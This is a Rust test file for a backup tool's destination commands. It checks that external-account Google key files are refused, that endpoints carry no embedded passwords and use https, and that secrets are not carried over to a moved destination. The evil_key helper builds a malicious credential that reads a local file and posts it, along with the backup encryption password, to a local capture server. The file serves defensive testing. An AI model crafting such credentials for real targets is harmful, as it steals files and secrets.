//! What `dest` takes from outside is checked before it is used: a Google key file that is not a
//! service account's key (an *external account* that would send a local file and this
//! process's secrets to a server of its own) is refused, from a file or from the environment,
//! and a capture server of the test's own on 127.0.0.1 sees no connection; endpoints hold no
//! password and speak https:// unless the server is this computer or plain HTTP is asked for;
//! two names that share one secret variable are refused; and a destination moved to another
//! place is told to get the new place's secret instead of carrying the old one there.

use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use crate::util::*;

/// A TCP server on 127.0.0.1 that counts the connections it is given (and answers none).
struct Capture {
    port: u16,
    connections: Arc<AtomicUsize>,
}

impl Capture {
    fn start() -> Capture {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
        let port = listener.local_addr().expect("addr").port();
        let connections = Arc::new(AtomicUsize::new(0));
        let seen = connections.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                seen.fetch_add(1, Ordering::SeqCst);
                drop(stream);
            }
        });
        Capture { port, connections }
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    fn connections(&self) -> usize {
        std::thread::sleep(Duration::from_millis(300));
        self.connections.load(Ordering::SeqCst)
    }
}

/// An external-account credential that tells Google's signer to read `planted.txt` and POST
/// it, with `${BACKUP_ENCRYPTION_PASSWORD}` filled in, to the capture server.
fn evil_key(w: &Work, capture: &Capture) -> String {
    let planted = w.path("planted.txt");
    std::fs::write(&planted, "a local secret").expect("write");
    serde_json::json!({
        "type": "external_account",
        "client_email": "evil@example.org",
        "audience": "//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/p",
        "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
        "token_url": format!("{}/token?p=${{BACKUP_ENCRYPTION_PASSWORD}}", capture.url()),
        "credential_source": { "file": planted, "format": { "type": "text" } },
    })
    .to_string()
}

#[test]
fn an_external_account_key_file_is_refused_at_dest_add_and_nothing_is_sent() {
    let w = Work::new();
    let capture = Capture::start();
    std::fs::write(w.path("evil.json"), evil_key(&w, &capture)).expect("write");
    let before = w.sources_bytes();
    let endpoint = capture.url();
    let mut c = w.src(&[
        "dest",
        "add",
        "x",
        "--kind",
        "gcs",
        "--bucket",
        "b",
        "--endpoint",
        &endpoint,
        "--key-file",
        "evil.json",
    ]);
    c.env("BACKUP_ENCRYPTION_PASSWORD", PASSWORD);
    let out = run(c);
    assert_error(&out, 2, "invalid_input");
    let err = stderr(&out);
    assert!(err.contains("external_account") && err.contains("service account"), "{err}");
    assert!(!err.contains(PASSWORD) && !err.contains("a local secret"), "{err}");
    assert_eq!(w.sources_bytes(), before, "nothing was saved");
    assert_eq!(capture.connections(), 0, "nothing reached the key's token_url");
}

#[test]
fn an_external_account_key_in_the_environment_is_refused_and_nothing_is_sent() {
    let w = Work::new();
    let capture = Capture::start();
    let key = evil_key(&w, &capture);
    // Added with its key in the variable: refused before anything is saved.
    let endpoint = capture.url();
    let mut c =
        w.src(&["dest", "add", "g", "--kind", "gcs", "--bucket", "b", "--endpoint", &endpoint, "--no-test"]);
    c.env("KEEPSAKE_DEST_SECRET_G", &key).env("BACKUP_ENCRYPTION_PASSWORD", PASSWORD);
    let out = run(c);
    assert_error(&out, 2, "invalid_input");
    assert!(stderr(&out).contains("external_account"), "{}", stderr(&out));
    assert!(w.sources_bytes().is_empty(), "nothing was saved");
    // A destination already in the file, its key from the variable: refused when it opens.
    std::fs::write(
        w.path("sources.toml"),
        format!("[[destination]]\nname = \"g\"\nkind = \"gcs\"\nbucket = \"b\"\nendpoint = \"{endpoint}\"\n"),
    )
    .expect("write");
    let mut c = w.src(&["dest", "test", "g"]);
    c.env("KEEPSAKE_DEST_SECRET_G", &key).env("BACKUP_ENCRYPTION_PASSWORD", PASSWORD);
    let out = run(c);
    assert_error(&out, 2, "remote_failed");
    assert!(stderr(&out).contains("external_account"), "{}", stderr(&out));
    assert_eq!(capture.connections(), 0, "nothing reached the key's token_url");
}

#[test]
fn endpoints_hold_no_password_and_speak_https_unless_asked() {
    let w = Work::new();
    let add = |endpoint: &str, extra: &[&str]| {
        let mut args =
            vec!["dest", "add", "nas", "--kind", "webdav", "--endpoint", endpoint, "--user", "ann"];
        args.extend_from_slice(extra);
        args.push("--no-test");
        let mut c = w.src(&args);
        c.env("KEEPSAKE_DEST_SECRET_NAS", "pw");
        run(c)
    };
    let out = add("https://ann:hunter2@nas.example.org/dav", &[]);
    assert_error(&out, 2, "invalid_input");
    assert!(stderr(&out).contains("password") && stderr(&out).contains("keyring"), "{}", stderr(&out));
    assert!(!stderr(&out).contains("hunter2"), "{}", stderr(&out));
    let out = add("http://nas.example.org/dav", &[]);
    assert_error(&out, 2, "invalid_input");
    assert!(stderr(&out).contains("--insecure-http"), "{}", stderr(&out));
    assert!(w.sources_bytes().is_empty(), "nothing was saved");

    let out = add("http://nas.example.org/dav", &["--insecure-http"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let file = String::from_utf8(w.sources_bytes()).expect("utf-8");
    assert!(file.contains("insecure_http = true"), "{file}");

    // This computer needs no opt-in; another server needs https:// or the opt-in.
    let mut c =
        w.src(&["dest", "add", "s3", "--kind", "s3", "--endpoint", "http://127.0.0.1:9000", "--bucket", "b"]);
    c.args(["--access-key-id", "AK", "--no-test"]).env("KEEPSAKE_DEST_SECRET_S3", "sk");
    assert_eq!(code(&run(c)), 0);
    let out = run(w.src(&["dest", "set", "s3", "endpoint", "http://s3.example.org"]));
    assert_error(&out, 2, "invalid_input");
    let out = run(w.src(&["dest", "set", "s3", "endpoint", "http://user:pw@[::1]:9000"]));
    assert_error(&out, 2, "invalid_input");
    let out = run(w.src(&["dest", "set", "s3", "endpoint", "http://s3.example.org", "--insecure-http"]));
    assert_eq!(code(&out), 0, "{}", stderr(&out));
}

#[test]
fn names_that_share_a_secret_variable_are_refused() {
    let w = Work::new();
    let add = |name: &str| {
        let path = w.path(name);
        run(w.src(&["dest", "add", name, "--kind", "folder", "--path", path.to_str().expect("utf-8")]))
    };
    assert_eq!(code(&add("my-nas")), 0);
    let before = w.sources_bytes();
    let out = add("My.Nas");
    assert_error(&out, 2, "invalid_input");
    let err = stderr(&out);
    assert!(err.contains("\"my-nas\"") && err.contains("KEEPSAKE_DEST_SECRET_MY_NAS"), "{err}");
    assert_eq!(w.sources_bytes(), before);
}

#[test]
fn a_destination_moved_to_another_server_is_told_to_get_its_new_secret() {
    let w = Work::new();
    let mut c =
        w.src(&["dest", "add", "b2", "--kind", "s3", "--endpoint", "http://127.0.0.1:9000", "--bucket", "b"]);
    c.args(["--access-key-id", "AK", "--no-test"]).env("KEEPSAKE_DEST_SECRET_B2", "sk");
    assert_eq!(code(&run(c)), 0);
    let out = run(w.src(&["dest", "set", "b2", "keep_last", "3"]));
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(!stderr(&out).contains("dest secret"), "same place, same secret: {}", stderr(&out));
    let out = run(w.src(&["dest", "set", "b2", "endpoint", "http://127.0.0.2:9000"]));
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(stderr(&out).contains("`keepsake dest secret b2`"), "{}", stderr(&out));
    let doc = ok_json(w.src(&["dest", "set", "b2", "bucket", "other", "--json"]));
    assert_eq!(doc["secret_forgotten"], true, "{doc}");
}
